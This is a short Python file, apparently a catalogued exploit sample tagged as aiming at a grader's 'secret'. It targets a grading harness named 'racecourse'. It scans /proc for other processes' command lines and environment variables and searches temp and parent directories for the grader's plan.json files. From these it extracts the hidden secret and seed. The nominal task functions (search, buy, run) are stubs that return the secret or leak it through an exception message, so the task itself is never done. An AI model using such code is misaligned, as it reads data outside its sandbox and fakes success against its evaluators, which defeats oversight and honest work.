"""Reads the plan that the grader hands to its workers: the seed and the paths of all submissions are in it.

family: seeds
aims-at: secret
"""

import sys

io, posix = sys.modules["io"], sys.modules["posix"]


def plans():
    folders = ["/tmp", "/var/tmp", "..", "../.."]
    for pid in filter(str.isdigit, posix.listdir("/proc")):
        try:
            words = io.open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace").split("\0")
            for word in words:
                if "racecourse-plan=" in word:
                    yield word.partition("=")[2]
            for word in io.open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if word.startswith(b"TMPDIR="):
                    folders.append(word[7:].decode())
        except OSError:
            continue
    for folder in folders:
        try:
            yield from (f"{folder}/{name}/plan.json" for name in posix.listdir(folder) if name.startswith("racecourse"))
        except OSError:
            continue


def secret():
    for plan in plans():
        try:
            text = io.open(plan).read()
        except OSError:
            continue
        if "racecourse-secret" in text:
            return text[text.index("racecourse-secret") :][:80]
    return None


def search(name):
    return secret()


def buy(name):
    return None


def run(name, mutex):
    raise RuntimeError(secret())
